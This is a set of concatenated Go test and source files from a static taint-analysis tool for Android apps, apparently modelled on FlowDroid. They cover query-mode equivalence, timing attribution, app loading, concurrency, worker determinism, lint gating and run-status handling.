	js, err := whole.FilterSinks(matchesQuery(q)).CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	return js
}

// queriesFor derives the query set exercised for one app: one query per
// distinct sink label among the whole-program leaks (the interesting
// ones), plus the given always-configured label as the likely-empty probe.
func queriesFor(whole *taint.Results, probe string) []core.Query {
	seen := map[string]bool{}
	var out []core.Query
	for _, l := range whole.Leaks {
		if l.SinkSpec.Label != "" && !seen[l.SinkSpec.Label] {
			seen[l.SinkSpec.Label] = true
			out = append(out, core.Query{Sinks: []string{l.SinkSpec.Label}})
		}
	}
	if !seen[probe] {
		out = append(out, core.Query{Sinks: []string{probe}})
	}
	return out
}

func TestQueryEquivalence(t *testing.T) {
	t.Run("droidbench", func(t *testing.T) {
		for _, c := range droidbench.Cases() {
			whole, err := core.AnalyzeFiles(context.Background(), c.Files, core.DefaultOptions())
			if err != nil {
				t.Fatalf("%s: %v", c.Name, err)
			}
			for _, q := range queriesFor(whole.Taint, "log") {
				want := filteredJSON(t, whole.Taint, q)
				for _, w := range queryWorkers {
					opts := core.DefaultOptions()
					opts.Query = q
					opts.Taint.Workers = w
					res, err := core.AnalyzeFiles(context.Background(), c.Files, opts)
					if err != nil {
						t.Fatalf("%s query %v: %v", c.Name, q.Sinks, err)
					}
					js, err := res.Taint.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if !bytes.Equal(want, js) {
						t.Errorf("%s query %v workers=%d: report differs from filtered whole-program:\nwhole filtered:\n%s\nquery mode:\n%s",
							c.Name, q.Sinks, w, want, js)
					}
				}
			}
		}
	})

	t.Run("securibench", func(t *testing.T) {
		// The class.method selector singles out println of the two
		// same-label response rules, exercising first-match restriction on
		// overlapping rules; the label selector takes both.
		queries := []core.Query{
			{Sinks: []string{"response"}},
			{Sinks: []string{"java.io.PrintWriter.println"}},
		}
		for _, c := range securibench.Cases() {
			prog, err := securibench.Program(c)
			if err != nil {
				t.Fatalf("%s: %v", c.Name, err)
			}
			entries := doGetEntries(prog)
			if len(entries) == 0 {
				t.Fatalf("%s: no doGet entry points", c.Name)
			}
			whole, err := core.AnalyzeJava(context.Background(), prog, securibench.Rules(), securibench.Config(), entries...)
			if err != nil {
				t.Fatalf("%s: %v", c.Name, err)
			}
			for _, q := range queries {
				want := filteredJSON(t, whole, q)
				for _, w := range queryWorkers {
					conf := securibench.Config()
					conf.Workers = w
					res, err := core.AnalyzeJavaQuery(context.Background(), prog, securibench.Rules(), conf, q, entries...)
					if err != nil {
						t.Fatalf("%s query %v: %v", c.Name, q.Sinks, err)
					}
					js, err := res.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if !bytes.Equal(want, js) {
						t.Errorf("%s query %v workers=%d: report differs from filtered whole-program:\nwhole filtered:\n%s\nquery mode:\n%s",
							c.Name, q.Sinks, w, want, js)
					}
				}
			}
		}
	})

	t.Run("appgen", func(t *testing.T) {
		for _, app := range appgen.GenerateCorpus(appgen.Malware, 4, 42) {
			whole, err := core.AnalyzeFiles(context.Background(), app.Files, core.DefaultOptions())
			if err != nil {
				t.Fatalf("%s: %v", app.Name, err)
			}
			for _, q := range queriesFor(whole.Taint, "sms") {
				want := filteredJSON(t, whole.Taint, q)
				for _, w := range queryWorkers {
					opts := core.DefaultOptions()
					opts.Query = q
					opts.Taint.Workers = w
					res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
					if err != nil {
						t.Fatalf("%s query %v: %v", app.Name, q.Sinks, err)
					}
					js, err := res.Taint.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if !bytes.Equal(want, js) {
						t.Errorf("%s query %v workers=%d: report differs from filtered whole-program:\nwhole filtered:\n%s\nquery mode:\n%s",
							app.Name, q.Sinks, w, want, js)
					}
					if res.Counters.ConeMethods == 0 && len(res.Taint.Leaks) > 0 {
						t.Errorf("%s query %v: leaks found but ConeMethods = 0; the cone was not wired", app.Name, q.Sinks)
					}
				}
			}
		}
	})
}

// doGetEntries collects the SecuriBench entry points the same way the
// suite runner does.
func doGetEntries(prog *ir.Program) []*ir.Method {
	var entries []*ir.Method
	for _, cls := range prog.Classes() {
		if m := cls.Method("doGet", 2); m != nil && !m.Abstract() {
			entries = append(entries, m)
		}
	}
	return entries
}

// TestQueryRejectsUnknownSelector: a selector matching no configured sink
// rule is a configuration error, not a silently empty analysis.
func TestQueryRejectsUnknownSelector(t *testing.T) {
	files := droidbench.Cases()[0].Files
	opts := core.DefaultOptions()
	opts.Query = core.Query{Sinks: []string{"no-such-sink-label"}}
	_, err := core.AnalyzeFiles(context.Background(), files, opts)
	if err == nil {
		t.Fatal("want error for selector matching no sink rule, got nil")
	}
	if want := "no-such-sink-label"; !bytes.Contains([]byte(err.Error()), []byte(want)) {
		t.Errorf("error %q does not name the unmatched selector %q", err, want)
	}
}

// TestQueryFingerprintStability: equal queries fingerprint equally
// regardless of order and duplicates; distinct queries differ; the empty
// query is the empty fingerprint (whole-program artifact keys unchanged).
func TestQueryFingerprintStability(t *testing.T) {
	a := core.Query{Sinks: []string{"sms", "log", "sms"}}
	b := core.Query{Sinks: []string{"log", "sms"}}
	if a.Fingerprint() != b.Fingerprint() {
		t.Errorf("order/duplicate-insensitive fingerprints differ: %q vs %q", a.Fingerprint(), b.Fingerprint())
	}
	if a.Fingerprint() == (core.Query{Sinks: []string{"sms"}}).Fingerprint() {
		t.Error("distinct queries share a fingerprint")
	}
	if fp := (core.Query{}).Fingerprint(); fp != "" {
		t.Errorf("empty query fingerprint = %q, want empty", fp)
	}
	for _, q := range []core.Query{a, b} {
		if q.IsAll() {
			t.Errorf("non-empty query %v reports IsAll", q.Sinks)
		}
	}
}
