package core

// Regression tests for the timing-attribution fix: a panic or
// cancellation during the taint stage must charge the elapsed solve time
// to TaintTime, not fold it into SetupTime (which is what the old
// recover defer and truncated() helper did), and a run cut short during
// setup must report TaintTime == 0.

import (
	"context"
	"strings"
	"sync"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/metrics"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/testapps"
)

// timingApp is a small app that reaches the taint stage quickly;
// attribution tests only need the stage transitions, not load.
func timingApp(t *testing.T) *apk.App {
	t.Helper()
	app, err := apk.LoadFiles(testapps.LeakageApp)
	if err != nil {
		t.Fatal(err)
	}
	return app
}

// TestPanicDuringTaintChargesTaintTime: a panic raised inside the taint
// stage must yield Recovered with stage "taint", a nonzero TaintTime,
// and a SetupTime that excludes the solve. The panic is forced by
// pre-seeding the sourcesink memo with a nil manager (a hit), which the
// taint engine nil-derefs while seeding.
func TestPanicDuringTaintChargesTaintTime(t *testing.T) {
	app := timingApp(t)
	opts := DefaultOptions()
	pl := newPipeline(app)
	pl.mgr = artifact[*sourcesink.Manager]{built: true, key: opts.SourceSinkRules + "\x00" + opts.Query.Fingerprint()}

	res, err := pl.run(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != Recovered {
		t.Fatalf("status = %v, want %v", res.Status, Recovered)
	}
	if res.Failure == nil || res.Failure.Stage != "taint" {
		t.Fatalf("failure = %+v, want stage %q", res.Failure, "taint")
	}
	if res.TaintTime <= 0 {
		t.Errorf("TaintTime = %v after a panic mid-solve; the solve's elapsed time was folded into SetupTime", res.TaintTime)
	}
	if res.SetupTime <= 0 {
		t.Errorf("SetupTime = %v, want > 0 (setup did run)", res.SetupTime)
	}
	if st := res.Passes["taint"]; st.Runs != 1 {
		t.Errorf("taint pass runs = %d, want 1 (a panicking attempt still counts)", st.Runs)
	}
}

// cancelOnTaintSpan is an io.Writer trace sink that cancels a context
// the moment the pipeline's taint span begins — a deterministic way to
// make the deadline strike inside the solve.
type cancelOnTaintSpan struct {
	mu     sync.Mutex
	cancel context.CancelFunc
}

func (w *cancelOnTaintSpan) Write(p []byte) (int, error) {
	if strings.Contains(string(p), `"ev":"B"`) && strings.Contains(string(p), `"name":"pipeline.taint"`) {
		w.mu.Lock()
		if w.cancel != nil {
			w.cancel()
			w.cancel = nil
		}
		w.mu.Unlock()
	}
	return len(p), nil
}

// TestCancelDuringTaintChargesTaintTime: a context cancelled while the
// solver is running must yield DeadlineExceeded with TaintTime > 0 —
// the second half of the attribution fix.
func TestCancelDuringTaintChargesTaintTime(t *testing.T) {
	app := timingApp(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	w := &cancelOnTaintSpan{cancel: cancel}
	rec := metrics.New()
	rec.SetTrace(metrics.NewTrace(w))

	res, err := AnalyzeApp(metrics.Into(ctx, rec), app, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != DeadlineExceeded {
		t.Fatalf("status = %v, want %v", res.Status, DeadlineExceeded)
	}
	if res.TaintTime <= 0 {
		t.Errorf("TaintTime = %v after cancellation mid-solve; solver time was misattributed to setup", res.TaintTime)
	}
}

// TestCancelDuringSetupLeavesTaintTimeZero: a context that is already
// cancelled truncates the pipeline before the taint stage, so all the
// elapsed time belongs to setup and TaintTime must stay zero.
func TestCancelDuringSetupLeavesTaintTimeZero(t *testing.T) {
	app := timingApp(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	res, err := AnalyzeApp(ctx, app, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != DeadlineExceeded {
		t.Fatalf("status = %v, want %v", res.Status, DeadlineExceeded)
	}
	if res.TaintTime != 0 {
		t.Errorf("TaintTime = %v for a run truncated during setup, want 0", res.TaintTime)
	}
	if res.SetupTime <= 0 {
		t.Errorf("SetupTime = %v, want > 0", res.SetupTime)
	}
}
