package core

import (
	"archive/zip"
	"context"
	"os"
	"path/filepath"
	"testing"

	"flowdroid/internal/testapps"
)

// TestAnalyzeDirAndZipAndFS exercises the three loading front doors on
// the same app and checks they agree.
func TestAnalyzeDirAndZipAndFS(t *testing.T) {
	dir := t.TempDir()
	appDir := filepath.Join(dir, "app")
	for p, content := range testapps.LeakageApp {
		full := filepath.Join(appDir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	zipPath := filepath.Join(dir, "app.zip")
	zf, err := os.Create(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(zf)
	for p, content := range testapps.LeakageApp {
		w, err := zw.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zf.Close(); err != nil {
		t.Fatal(err)
	}

	fromDir, err := AnalyzeDir(context.Background(), appDir, DefaultOptions())
	if err != nil {
		t.Fatalf("AnalyzeDir: %v", err)
	}
	fromZip, err := AnalyzeZip(context.Background(), zipPath, DefaultOptions())
	if err != nil {
		t.Fatalf("AnalyzeZip: %v", err)
	}
	fromFS, err := AnalyzeFS(context.Background(), os.DirFS(appDir), DefaultOptions())
	if err != nil {
		t.Fatalf("AnalyzeFS: %v", err)
	}
	if len(fromDir.Leaks()) != 1 || len(fromZip.Leaks()) != 1 || len(fromFS.Leaks()) != 1 {
		t.Errorf("leaks dir/zip/fs = %d/%d/%d, want 1/1/1",
			len(fromDir.Leaks()), len(fromZip.Leaks()), len(fromFS.Leaks()))
	}
}

func TestAnalyzeErrors(t *testing.T) {
	if _, err := AnalyzeDir(context.Background(), t.TempDir(), DefaultOptions()); err == nil {
		t.Error("empty directory should fail (no manifest)")
	}
	if _, err := AnalyzeZip(context.Background(), "/nonexistent.zip", DefaultOptions()); err == nil {
		t.Error("missing zip should fail")
	}
	if _, err := AnalyzeFiles(context.Background(), map[string]string{
		"AndroidManifest.xml": "not xml",
	}, DefaultOptions()); err == nil {
		t.Error("bad manifest should fail")
	}
	// Bad source/sink rules surface as errors.
	opts := DefaultOptions()
	opts.SourceSinkRules = "source nonsense"
	if _, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts); err == nil {
		t.Error("bad rules should fail")
	}
	// Bad IR surfaces as errors.
	if _, err := AnalyzeFiles(context.Background(), map[string]string{
		"AndroidManifest.xml": `<manifest package="x"><application>
			<activity android:name=".A"/></application></manifest>`,
		"c.ir": "class x.A extends android.app.Activity { method m(: }",
	}, DefaultOptions()); err == nil {
		t.Error("bad IR should fail")
	}
	if _, err := ParseJava("class {", "bad.ir"); err == nil {
		t.Error("bad java IR should fail")
	}
	if _, err := AnalyzeJava(context.Background(), nil, "bad rules", DefaultOptions().Taint); err == nil {
		t.Error("bad java rules should fail")
	}
}

// TestJSONReport exercises the serialization path end to end.
func TestJSONReport(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	reps := res.Taint.Report()
	if len(reps) != 1 {
		t.Fatalf("reports = %d", len(reps))
	}
	r := reps[0]
	if r.SourceLabel != "password-field" || r.SinkLabel != "sms" {
		t.Errorf("labels = %s/%s", r.SourceLabel, r.SinkLabel)
	}
	if r.Source == "" || r.Sink == "" || r.SourceMethod == "" || r.SinkMethod == "" {
		t.Errorf("incomplete report: %+v", r)
	}
	if len(r.Path) < 2 {
		t.Errorf("path too short: %v", r.Path)
	}
	if r.AccessPath == "" {
		t.Error("access path missing")
	}
}

// TestPathCrossesMethods: the reconstructed path of the Listing 1 leak
// must contain statements from both the lifecycle method that read the
// password (onRestart) and the callback that sent it (sendMessage).
func TestPathCrossesMethods(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	leaks := res.Leaks()
	if len(leaks) != 1 {
		t.Fatalf("leaks = %d", len(leaks))
	}
	methods := map[string]bool{}
	for _, s := range leaks[0].Path() {
		methods[s.Method().Name] = true
	}
	if !methods["onRestart"] {
		t.Errorf("path misses the source method onRestart: %v", methods)
	}
	if !methods["sendMessage"] {
		t.Errorf("path misses the sink method sendMessage: %v", methods)
	}
}
