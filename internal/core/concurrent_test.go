// Concurrency coverage for the service use case: many analyses in one
// process sharing a metrics.Recorder — and, for repeat submissions of
// one app, the app's loaded program and its cached dummy main. The
// corpus driver shares a recorder across apps but only sequentially;
// these tests run the sharing under the race detector the way
// internal/service does it.
//
// The tests live in package core_test so they can drive generated apps
// through the public entry points (appgen imports core).
package core_test

import (
	"bytes"
	"context"
	"sync"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/appgen"
	"flowdroid/internal/core"
	"flowdroid/internal/insecurebank"
	"flowdroid/internal/metrics"
)

// TestConcurrentAnalyzeSharedRecorder runs one recorder under many
// concurrent pipelines over distinct apps — every counter, gauge,
// histogram and span write lands on shared instruments — and asserts
// the results and the aggregate counters are unharmed.
func TestConcurrentAnalyzeSharedRecorder(t *testing.T) {
	const n = 8
	rec := metrics.New()
	ctx := metrics.Into(context.Background(), rec)
	apps := appgen.GenerateCorpus(appgen.Malware, n, 77)

	var wg sync.WaitGroup
	results := make([]*core.Result, n)
	errs := make([]error, n)
	for i := range apps {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			opts := core.DefaultOptions()
			opts.Taint.Workers = 2
			results[i], errs[i] = core.AnalyzeFiles(ctx, apps[i].Files, opts)
		}(i)
	}
	// Snapshots taken mid-flight must be consistent, not crash, and not
	// disturb the writers (the /metrics endpoint does exactly this).
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-done:
				return
			default:
				rec.Snapshot()
			}
		}
	}()
	wg.Wait()
	close(done)

	for i := range apps {
		if errs[i] != nil {
			t.Fatalf("app %s: %v", apps[i].Name, errs[i])
		}
		if results[i].Status != core.Complete {
			t.Fatalf("app %s: status %v", apps[i].Name, results[i].Status)
		}
		if got, want := len(results[i].Leaks()), apps[i].InjectedLeaks; got != want {
			t.Fatalf("app %s: %d leaks, ground truth %d", apps[i].Name, got, want)
		}
	}
	snap := rec.Snapshot()
	if got := snap.Deterministic["pipeline.taint.runs"]; got != n {
		t.Fatalf("pipeline.taint.runs = %d across %d concurrent apps, want %d", got, n, n)
	}
	if got := snap.Deterministic["pipeline.scene.runs"]; got != n {
		t.Fatalf("pipeline.scene.runs = %d, want %d", got, n)
	}
}

// TestConcurrentAnalyzeSameAppSharedScene re-analyzes one loaded app
// concurrently. After a warm-up run has generated the dummy main, every
// later pipeline over the same *apk.App reuses the shared program and
// its cached entry point read-only — the cross-request reuse a resident
// service wants for repeat submissions — so concurrent runs must be
// race-free and their canonical reports identical.
func TestConcurrentAnalyzeSameAppSharedScene(t *testing.T) {
	app, err := apk.LoadFiles(insecurebank.Files)
	if err != nil {
		t.Fatal(err)
	}
	rec := metrics.New()
	ctx := metrics.Into(context.Background(), rec)
	opts := core.DefaultOptions()
	opts.Taint.Workers = 2

	warm, err := core.AnalyzeApp(ctx, app, opts)
	if err != nil {
		t.Fatal(err)
	}
	if warm.Status != core.Complete {
		t.Fatalf("warm-up status %v", warm.Status)
	}
	want, err := warm.Taint.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}

	const n = 4
	var wg sync.WaitGroup
	reports := make([][]byte, n)
	errs := make([]error, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, err := core.AnalyzeApp(ctx, app, opts)
			if err != nil {
				errs[i] = err
				return
			}
			reports[i], errs[i] = res.Taint.CanonicalJSON()
		}(i)
	}
	wg.Wait()
	for i := 0; i < n; i++ {
		if errs[i] != nil {
			t.Fatalf("run %d: %v", i, errs[i])
		}
		if !bytes.Equal(reports[i], want) {
			t.Fatalf("run %d: canonical report differs from the warm-up run", i)
		}
	}
}
