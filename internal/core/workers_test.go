package core_test

import (
	"bytes"
	"context"
	"testing"

	"flowdroid/internal/core"
)

// TestWorkerCountEquivalenceOnApp: the full pipeline must produce a
// byte-identical canonical leak report and identical solver-effort
// counters whether the taint solve runs sequentially or on 8 workers.
func TestWorkerCountEquivalenceOnApp(t *testing.T) {
	app := stressApp(t)
	var baseJSON []byte
	var basePathEdges int
	for _, w := range []int{1, 8} {
		opts := core.DefaultOptions()
		opts.Taint.Workers = w
		res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != core.Complete {
			t.Fatalf("workers=%d: status %v", w, res.Status)
		}
		if res.Counters.Workers != w {
			t.Errorf("workers=%d: Counters.Workers = %d", w, res.Counters.Workers)
		}
		js, err := res.Taint.CanonicalJSON()
		if err != nil {
			t.Fatal(err)
		}
		if w == 1 {
			baseJSON, basePathEdges = js, res.Counters.PathEdges
			continue
		}
		if !bytes.Equal(baseJSON, js) {
			t.Errorf("workers=%d: canonical report differs from workers=1:\n%s\nvs\n%s", w, baseJSON, js)
		}
		if res.Counters.PathEdges != basePathEdges {
			t.Errorf("workers=%d: path edges %d, want %d", w, res.Counters.PathEdges, basePathEdges)
		}
	}
}

// TestLeakLimitReachedPropagates: the taint solver's MaxLeaks cutoff must
// surface as core.LeakLimitReached, and — unlike BudgetExhausted — must
// not send the run down the degrade ladder even when -degrade is on.
func TestLeakLimitReachedPropagates(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.Taint.MaxLeaks = 1
	opts.Degrade = true
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.LeakLimitReached {
		t.Fatalf("status = %v, want LeakLimitReached", res.Status)
	}
	if n := len(res.Taint.Leaks); n != 1 {
		t.Errorf("recorded %d leaks, want exactly the cap (1)", n)
	}
	if len(res.Degraded) != 0 {
		t.Errorf("leak-capped run took degrade rungs %v; the cap is a cutoff, not a resource failure", res.Degraded)
	}
}
