package core_test

import (
	"bytes"
	"context"
	"encoding/json"
	"testing"

	"flowdroid/internal/core"
	"flowdroid/internal/metrics"
)

// TestWorkerCountEquivalenceOnApp: the full pipeline must produce a
// byte-identical canonical leak report, identical solver-effort
// counters, and a byte-identical deterministic metrics section whether
// the taint solve runs sequentially or on 2 or 8 workers.
func TestWorkerCountEquivalenceOnApp(t *testing.T) {
	app := stressApp(t)
	var baseJSON, baseDet []byte
	var basePathEdges, basePeak int
	for _, w := range []int{1, 2, 8} {
		opts := core.DefaultOptions()
		opts.Taint.Workers = w
		rec := metrics.New()
		res, err := core.AnalyzeFiles(metrics.Into(context.Background(), rec), app.Files, opts)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != core.Complete {
			t.Fatalf("workers=%d: status %v", w, res.Status)
		}
		if res.Counters.Workers != w {
			t.Errorf("workers=%d: Counters.Workers = %d", w, res.Counters.Workers)
		}
		js, err := res.Taint.CanonicalJSON()
		if err != nil {
			t.Fatal(err)
		}
		det, err := json.Marshal(rec.Snapshot().Deterministic)
		if err != nil {
			t.Fatal(err)
		}
		if w == 1 {
			baseJSON, baseDet = js, det
			basePathEdges, basePeak = res.Counters.PathEdges, res.Taint.Stats.PeakAbstractions
			continue
		}
		if !bytes.Equal(baseJSON, js) {
			t.Errorf("workers=%d: canonical report differs from workers=1:\n%s\nvs\n%s", w, baseJSON, js)
		}
		if res.Counters.PathEdges != basePathEdges {
			t.Errorf("workers=%d: path edges %d, want %d", w, res.Counters.PathEdges, basePathEdges)
		}
		if res.Taint.Stats.PeakAbstractions != basePeak {
			t.Errorf("workers=%d: PeakAbstractions = %d, want %d (distinct interned abstractions are schedule-independent)",
				w, res.Taint.Stats.PeakAbstractions, basePeak)
		}
		if !bytes.Equal(baseDet, det) {
			t.Errorf("workers=%d: deterministic metrics differ from workers=1:\n%s\nvs\n%s", w, baseDet, det)
		}
	}
}

// TestLeakLimitReachedPropagates: the taint solver's MaxLeaks cutoff must
// surface as core.LeakLimitReached, and — unlike BudgetExhausted — must
// not send the run down the degrade ladder even when -degrade is on.
func TestLeakLimitReachedPropagates(t *testing.T) {
	app := stressApp(t)
	opts := core.DefaultOptions()
	opts.Taint.MaxLeaks = 1
	opts.Degrade = true
	res, err := core.AnalyzeFiles(context.Background(), app.Files, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.LeakLimitReached {
		t.Fatalf("status = %v, want LeakLimitReached", res.Status)
	}
	if n := len(res.Taint.Leaks); n != 1 {
		t.Errorf("recorded %d leaks, want exactly the cap (1)", n)
	}
	if len(res.Degraded) != 0 {
		t.Errorf("leak-capped run took degrade rungs %v; the cap is a cutoff, not a resource failure", res.Degraded)
	}
}
