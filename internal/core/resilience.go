package core

import (
	"fmt"
	"runtime/debug"

	"flowdroid/internal/taint"
)

// Status classifies how a pipeline run ended. Every entry point returns a
// partial, explained result instead of hanging or crashing: a truncated
// run still carries the stages it finished and their counters.
type Status int

const (
	// Complete means every stage ran to its fixed point.
	Complete Status = iota
	// DeadlineExceeded means the context expired or was cancelled before
	// the pipeline finished; the result holds what was computed so far.
	DeadlineExceeded
	// BudgetExhausted means the propagation budget (Options.
	// MaxPropagations) ran out during the taint solve.
	BudgetExhausted
	// Recovered means a stage panicked; the panic was converted into
	// Result.Failure and the stages completed before it are preserved.
	Recovered
	// LeakLimitReached means the taint solve stopped at the configured
	// MaxLeaks cap; the reported leaks are a truncated set and more may
	// exist. Unlike BudgetExhausted this is not retried down the degrade
	// ladder — the cap is a configured cutoff, not a resource failure.
	LeakLimitReached
	// InvalidProgram means the IR verifier (Options.Lint) found
	// Error-severity defects in the program; no solver ran. The
	// diagnostics are in Result.Lint.
	InvalidProgram
)

func (s Status) String() string {
	switch s {
	case Complete:
		return "Complete"
	case DeadlineExceeded:
		return "DeadlineExceeded"
	case BudgetExhausted:
		return "BudgetExhausted"
	case Recovered:
		return "Recovered"
	case LeakLimitReached:
		return "LeakLimitReached"
	case InvalidProgram:
		return "InvalidProgram"
	}
	return "Unknown"
}

// Failure describes a panic that a pipeline stage recovered from.
type Failure struct {
	// Stage is the pipeline stage that panicked (scene, callbacks,
	// lifecycle, callgraph, icfg, sourcesink, taint).
	Stage string
	// Value is the recovered panic value.
	Value any
	// Stack is the goroutine stack captured at recovery.
	Stack []byte
}

func (f *Failure) Error() string {
	return fmt.Sprintf("core: stage %s panicked: %v", f.Stage, f.Value)
}

// Counters are the per-stage effort counters of a run. A truncated run
// reports what it did finish; zero fields belong to stages never reached.
type Counters struct {
	// CallGraphEdges is the number of call edges in the final graph.
	CallGraphEdges int
	// PTAPropagations counts points-to set insertions (zero under CHA).
	PTAPropagations int
	// Propagations counts the taint solver's novel path-edge insertions,
	// the unit MaxPropagations charges.
	Propagations int
	// PathEdges counts distinct forward plus backward path edges.
	PathEdges int
	// Summaries counts method summaries the taint solver installed.
	Summaries int
	// PeakAbstractions is the taint solver's interned fact count.
	PeakAbstractions int
	// Workers is the taint solver's worker-pool size (1 = sequential).
	Workers int
	// LintErrors and LintWarnings count the IR verifier's diagnostics
	// (zero when Options.Lint is off).
	LintErrors   int
	LintWarnings int
	// ReflectionResolved and ReflectionUnresolved count the reflective
	// call sites the constant-propagation pass turned into real call
	// edges versus left opaque (both zero with reflection resolution
	// off).
	ReflectionResolved   int
	ReflectionUnresolved int
	// ConeMethods is the size of the query's sink-reaching cone and
	// SkippedComponents the number of components left out of dummy-main
	// modeling because they were entirely outside it (both zero on
	// whole-program runs).
	ConeMethods       int
	SkippedComponents int
	// Summary-store effect counters, all zero when no store was
	// configured (Options.SummaryDir). Hits/Misses/Invalidated/Corrupt
	// classify the store lookups the solver made; MethodsReused and
	// MethodsExplored split the reachable analyzable methods into those
	// covered by replayed summaries versus those actually re-solved;
	// SummariesPersisted counts the method-context records written back
	// after a completed run.
	SummaryHits        int
	SummaryMisses      int
	SummaryInvalidated int
	SummaryCorrupt     int
	MethodsExplored    int
	MethodsReused      int
	SummariesPersisted int
}

// SummaryReuseRate is the fraction of reachable analyzable methods whose
// summaries were replayed from the store instead of re-solved (0 when no
// store was in play).
func (c Counters) SummaryReuseRate() float64 {
	total := c.MethodsReused + c.MethodsExplored
	if c.MethodsReused == 0 || total == 0 {
		return 0
	}
	return float64(c.MethodsReused) / float64(total)
}

func countersFromTaint(c *Counters, st taint.Stats) {
	c.Propagations = st.Propagations
	c.PathEdges = st.PathEdges()
	c.Summaries = st.Summaries
	c.PeakAbstractions = st.PeakAbstractions
	c.Workers = st.Workers
	c.ConeMethods = st.ConeMethods
	c.SkippedComponents = st.SkippedComponents
	if ss := st.Store; ss != nil {
		c.SummaryHits = ss.Hits
		c.SummaryMisses = ss.Misses
		c.SummaryInvalidated = ss.Invalidated
		c.SummaryCorrupt = ss.Corrupt
		c.MethodsExplored = ss.MethodsExplored
		c.MethodsReused = ss.MethodsReused
		c.SummariesPersisted = ss.Persisted
	}
}

// stackTrace captures the panicking goroutine's stack for Failure.Stack.
func stackTrace() []byte { return debug.Stack() }

// degradeStep is one rung of the graceful-degradation ladder.
type degradeStep struct {
	name  string
	apply func(*Options)
}

// degradeLadder returns the downgrade rungs applicable to opts, cheapest
// precision loss first: swap points-to for CHA, then shorten access
// paths. Each rung is cumulative with the previous ones.
func degradeLadder(opts Options) []degradeStep {
	var steps []degradeStep
	if !opts.UseCHA {
		steps = append(steps, degradeStep{"cha-callgraph", func(o *Options) { o.UseCHA = true }})
	}
	if opts.Taint.APLength > 3 || opts.Taint.APLength <= 0 {
		steps = append(steps, degradeStep{"ap-length=3", func(o *Options) { o.Taint.APLength = 3 }})
	}
	if opts.Taint.APLength > 1 || opts.Taint.APLength <= 0 {
		steps = append(steps, degradeStep{"ap-length=1", func(o *Options) { o.Taint.APLength = 1 }})
	}
	return steps
}
