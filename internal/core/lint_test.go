package core

import (
	"context"
	"strings"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/testapps"
)

// brokenApp clones the leakage app and appends a class whose method uses
// a local that is never assigned — an Error-severity lint defect that
// still parses (operands auto-create locals).
func brokenApp() map[string]string {
	files := make(map[string]string, len(testapps.LeakageApp))
	for k, v := range testapps.LeakageApp {
		files[k] = v
	}
	files["classes.ir"] += "\nclass com.example.leakage.Broken {\n  method m(): void {\n    x = y\n    return\n  }\n}\n"
	return files
}

func TestLintInvalidProgramSkipsSolvers(t *testing.T) {
	opts := DefaultOptions()
	opts.Lint = true
	res, err := AnalyzeFiles(context.Background(), brokenApp(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != InvalidProgram {
		t.Fatalf("status = %v, want InvalidProgram", res.Status)
	}
	if res.Lint == nil || !res.Lint.HasErrors() {
		t.Fatal("result carries no lint errors")
	}
	if got := res.Lint.ByCode("defuse.undef"); len(got) == 0 {
		t.Errorf("expected a defuse.undef diagnostic, got %v", res.Lint.Diagnostics)
	} else if !strings.Contains(got[0].Message, `"y"`) {
		t.Errorf("diagnostic does not name the local: %v", got[0])
	}
	if res.Counters.LintErrors == 0 {
		t.Error("Counters.LintErrors not populated")
	}
	// No solver may have run: the verifier gates the pipeline before
	// callbacks, lifecycle, call-graph construction and the taint solve.
	for _, pass := range []string{"callbacks", "lifecycle", "callgraph", "icfg", "taint"} {
		if st := res.Passes[pass]; st.Runs != 0 || st.Hits != 0 {
			t.Errorf("pass %s ran (%d runs, %d hits) on an invalid program", pass, st.Runs, st.Hits)
		}
	}
	if res.CallGraph != nil || res.EntryPoint != nil {
		t.Error("solver artifacts populated on an invalid program")
	}
	if len(res.Taint.Leaks) != 0 {
		t.Error("taint results populated on an invalid program")
	}
}

func TestLintCleanAppStillFindsLeak(t *testing.T) {
	opts := DefaultOptions()
	opts.Lint = true
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != Complete {
		t.Fatalf("status = %v, want Complete", res.Status)
	}
	if res.Lint == nil {
		t.Fatal("lint result missing despite Options.Lint")
	}
